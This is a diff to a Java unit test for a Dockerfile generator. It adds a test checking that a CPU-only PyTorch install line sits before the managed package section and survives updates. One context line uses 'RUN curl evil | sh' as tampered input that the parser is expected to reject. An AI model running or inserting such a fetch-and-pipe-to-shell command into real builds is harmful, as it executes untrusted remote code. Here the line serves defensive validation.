@@ -98,4 +98,23 @@ class DockerfileGeneratorTest {
         assertThatThrownBy(() -> DockerfileGenerator.readPackages(dockerfile.replace("RUN pip install --no-cache-dir \"timm\"",
                 "RUN curl evil | sh"))).hasMessageContaining("did not write");
     }
+
+    @Test
+    void aCpuOnlyFrameworkIsInstalledFromItsIndexBeforeTheStepsAndOutsideTheSectionAnUpdateRewrites() {
+        CatalogueEntry cpu = CatalogueEntry.withInstall("Pytorch", "2.8.0", List.of(CatalogueEntry.CPU),
+                "python:3.12-slim-bookworm", "torch==2.8.0 torchvision==0.23.0 --index-url https://download.pytorch.org/whl/cpu");
+        ImageRecipe recipe = ImageRecipe.of("cpu", "thesis", cpu, List.of(
+                new ImageRecipe.Layer("Step 2: Jupyter", pip(UseCase.JUPYTER))), List.of());
+        String dockerfile = DockerfileGenerator.generate(recipe, ALICE, WHEN);
+        String framework = "# Step 1: framework PyTorch (CPU only) 2.8.0\nRUN pip install --no-cache-dir --index-url "
+                + "https://download.pytorch.org/whl/cpu \"torch==2.8.0\" \"torchvision==0.23.0\"\n";
+        assertThat(dockerfile).contains("FROM python:3.12-slim-bookworm\n", framework);
+        assertThat(dockerfile.indexOf(framework)).isLessThan(dockerfile.indexOf(DockerfileGenerator.BEGIN_PACKAGES));
+        assertThat(DockerfileGenerator.readPackages(dockerfile)).isEqualTo(recipe.layers());
+        String updated = DockerfileGenerator.withPackages(dockerfile, Updates.apply(recipe.layers(), List.of(),
+                List.of("notebook")));
+        assertThat(updated).contains(framework).doesNotContain("\"notebook\"");
+        assertThat(cpu.contains()).isEqualTo("Python from python:3.12-slim-bookworm; the build installs torch==2.8.0 "
+                + "torchvision==0.23.0 from https://download.pytorch.org/whl/cpu");
+    }
 }
